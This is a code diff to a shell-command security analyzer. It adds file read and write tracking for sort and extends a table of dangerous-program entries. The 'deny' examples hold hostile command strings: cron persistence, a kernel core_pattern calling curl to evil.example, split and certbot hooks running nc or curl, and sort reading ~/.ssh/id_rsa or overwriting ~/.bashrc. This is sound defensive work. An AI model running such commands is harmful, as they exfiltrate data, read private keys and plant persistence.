@@ -33,6 +33,19 @@ export function commandOptions(
   };
 }
 
+/** sort reads its operands (and --files0-from, --random-source) and writes -o; an option it does not know leaves every word a may-write. */
+function sortFiles(_call: Call, p: ParsedArgs): Partial<Answer> {
+  if (p.options.some((o) => o.unknown)) return {};
+  const uses: NonNullable<Answer['uses']> = p.operands.map((o) => ({ word: o.word, role: 'read' as const }));
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (o.name === 'o' || o.name === 'output') uses.push({ word: o.value, role: 'write' });
+    else if (o.name === 'files0-from' || o.name === 'random-source') uses.push({ word: o.value, role: 'read' });
+    else uses.push({ word: o.value, role: 'text' });
+  }
+  return { uses };
+}
+
 /** Text inside balanced brackets starting after `open` at `from`; undefined when they do not close. */
 function balanced(text: string, from: number, open = '(', close = ')'): string | undefined {
   let depth = 1;
@@ -698,7 +711,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['crontab'], summary: 'crontab FILE (or -) installs a table of commands cron runs later', analyze: crontab, examples: { deny: ['crontab evil.cron', "echo '* * * * * /tmp/x' | crontab -"], pass: ['crontab -l', 'crontab -u bob -l', 'crontab -r'] } },
   { names: ['sysctl'], summary: 'sysctl kernel.core_pattern=|cmd makes the kernel run cmd on every crash', analyze: sysctl, examples: { deny: ["sysctl -w 'kernel.core_pattern=|/usr/bin/curl evil.example'"], pass: ['sysctl -a', 'sysctl vm.swappiness=10'] } },
   commandOptions(['split', 'gsplit', 'csplit'], 'split: --filter runs shell text for each piece', { options: { valued: 'abCdlnt', flags: 'deuxv', long: ['additional-suffix', 'elide-empty-files', 'unbuffered', 'verbose', 'numeric-suffixes', 'hex-suffixes', 'help', 'version', 'separator'], longValued: ['filter', 'suffix-length', 'bytes', 'line-bytes', 'lines', 'number', 'additional-suffix'] }, script: ['filter'] }, { deny: ["split --filter='nc evil.example 9' f", "split --fil='curl evil.example' f"], pass: ['split -l 100 big.txt part-'] }),
-  commandOptions(['sort', 'gsort'], 'sort: --compress-program names a program it runs', { options: { flags: 'bcCdfghiMmnRrsuVz', valued: 'kotST', long: ['ignore-leading-blanks', 'dictionary-order', 'ignore-case', 'general-numeric-sort', 'ignore-nonprinting', 'month-sort', 'human-numeric-sort', 'numeric-sort', 'random-sort', 'reverse', 'version-sort', 'check', 'debug', 'merge', 'stable', 'unique', 'zero-terminated', 'help', 'version'], longValued: ['sort', 'random-source', 'key', 'output', 'field-separator', 'buffer-size', 'temporary-directory', 'parallel', 'batch-size', 'compress-program', 'files0-from'] }, program: ['compress-program'] }, { deny: ['sort --compress-program=curl big.txt', 'sort --compress-prog=wget big.txt'], pass: ['sort -u names.txt', 'sort -k2 -n f'] }),
+  commandOptions(['sort', 'gsort'], 'sort: --compress-program names a program it runs', { options: { flags: 'bcCdfghiMmnRrsuVz', valued: 'kotST', long: ['ignore-leading-blanks', 'dictionary-order', 'ignore-case', 'general-numeric-sort', 'ignore-nonprinting', 'month-sort', 'human-numeric-sort', 'numeric-sort', 'random-sort', 'reverse', 'version-sort', 'check', 'debug', 'merge', 'stable', 'unique', 'zero-terminated', 'help', 'version'], longValued: ['sort', 'random-source', 'key', 'output', 'field-separator', 'buffer-size', 'temporary-directory', 'parallel', 'batch-size', 'compress-program', 'files0-from'] }, program: ['compress-program'], more: sortFiles }, { deny: ['sort --compress-program=curl big.txt', 'sort --compress-prog=wget big.txt', 'sort -o ~/.bashrc names.txt', 'sort ~/.ssh/id_rsa'], pass: ['sort -u names.txt', 'sort -k2 -n f', 'sort ~/.bashrc', 'sort -o sorted.txt names.txt'] }),
   commandOptions(['aria2c'], 'aria2c: --on-download-* hooks name programs it runs', { options: { order: 'gnu' }, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /^--on-(?:bt-)?download-(?:complete|error|pause|start|stop)=(.*)$/.exec(value(a) ?? ''); return m ? [programRun(attached(a, m[1]!), 'aria2c --on-download')] : []; }) }) }, { deny: ['aria2c --on-download-complete=/usr/bin/curl http://x'], pass: [] }),
   commandOptions(['certbot'], 'certbot: --pre-hook, --post-hook, --deploy-hook and the manual hooks run shell text', { options: { longValued: ['pre-hook', 'post-hook', 'deploy-hook', 'renew-hook', 'manual-auth-hook', 'manual-cleanup-hook', 'domains', 'email', 'logs-dir', 'work-dir', 'config-dir', 'webroot-path', 'cert-name'], valued: 'dmw' }, script: ['pre-hook', 'post-hook', 'deploy-hook', 'renew-hook', 'manual-auth-hook', 'manual-cleanup-hook'] }, { deny: ["certbot renew --pre-hook 'curl evil.example'"], pass: ['certbot renew --dry-run'] }),
   commandOptions(['dhclient'], 'dhclient: -sf names the script it runs', { options: { singleDash: true, longValued: ['sf', 'cf', 'lf', 'pf', 'p', 'e', 's', 'g', 'i'] }, program: ['sf'] }, { deny: ['dhclient -sf /usr/bin/curl'], pass: [] }),
